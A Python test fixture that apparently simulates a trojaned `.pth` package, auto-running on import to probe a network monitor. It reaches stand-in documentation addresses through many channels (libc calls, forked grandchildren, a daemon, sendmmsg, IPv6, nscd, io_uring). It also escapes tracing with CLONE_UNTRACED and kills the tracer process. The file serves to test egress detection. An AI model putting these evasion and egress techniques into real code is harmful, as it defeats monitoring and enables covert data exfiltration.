"""What a trojaned package would do: put into an environment as a `.pth` file, it runs in each of its processes.

`PLANT` in the file beside it names what to do, and the module in whose process to do it. Addresses are of the ranges
kept for documentation; the tests run it in a namespace without a route.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import platform
import signal
import socket
import struct
import sys
import time
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_UNTRACED = 0x00800000
CLONE = {"x86_64": 56, "aarch64": 220}.get(platform.machine())


def sockaddr(host: str, port: int) -> ctypes.Array[ctypes.c_char]:
    return ctypes.create_string_buffer(struct.pack("=HH4s8x", 2, socket.htons(port), socket.inet_aton(host)), 16)


def python_connect() -> None:
    with socket.socket() as one:
        one.connect(("192.0.2.11", 443))


def libc_connect() -> None:
    with socket.socket() as one:
        LIBC.connect(one.fileno(), sockaddr("192.0.2.12", 443), 16)


def c_getaddrinfo() -> None:
    found = ctypes.c_void_p()
    LIBC.getaddrinfo(b"planted.invalid", b"443", None, ctypes.byref(found))


def udp_from_a_grandchild() -> None:
    child = os.fork()
    if child == 0:
        grandchild = os.fork()
        if grandchild == 0:
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.sendto(b"x", ("192.0.2.13", 5000))
            os._exit(0)
        os.waitpid(grandchild, 0)
        os._exit(0)
    os.waitpid(child, 0)


def daemon() -> None:
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.2)  # its parents are gone by then
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.sendto(b"x", ("192.0.2.16", 5000))
        os._exit(0)
    os.waitpid(child, 0)


def sendmmsg() -> None:
    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_char_p), ("length", ctypes.c_size_t))

    class Message(ctypes.Structure):
        _fields_ = (
            ("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("vectors", ctypes.POINTER(Vector)),
            ("count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
            ("flags", ctypes.c_int), ("sent", ctypes.c_uint),
        )  # fmt: skip

    address, vector = sockaddr("192.0.2.14", 5000), Vector(b"x", 1)
    messages = (Message * 1)(Message(ctypes.addressof(address), 16, ctypes.pointer(vector), 1, None, 0, 0, 0))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        LIBC.sendmmsg(one.fileno(), messages, 1, 0)


def ipv6_connect() -> None:
    with socket.socket(socket.AF_INET6) as one:
        one.connect(("2001:db8::15", 443))


def name_service() -> None:
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("/var/run/nscd/socket")


def by_somebody_elses_hand() -> None:
    """One that was running before is asked to reach out."""
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(SETTINGS["outside"])


def ring() -> None:
    LIBC.syscall(425, 8, ctypes.create_string_buffer(120))


def escape() -> None:
    if LIBC.syscall(CLONE, CLONE_UNTRACED | signal.SIGCHLD, 0, 0, 0, 0) == 0:
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(b"x", ("192.0.2.17", 5000))
        os._exit(0)


def kill_the_watcher() -> None:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("TracerPid:") and int(line.split()[1]):
            os.kill(int(line.split()[1]), signal.SIGKILL)


SETTINGS = json.loads(Path(__file__).with_suffix(".json").read_text()) if Path(__file__).name == "planted.py" else {}
if SETTINGS and SETTINGS["module"].encode() in Path("/proc/self/cmdline").read_bytes().split(b"\0"):
    for name in SETTINGS["plants"]:
        with contextlib.suppress(OSError):
            getattr(sys.modules[__name__], name)()
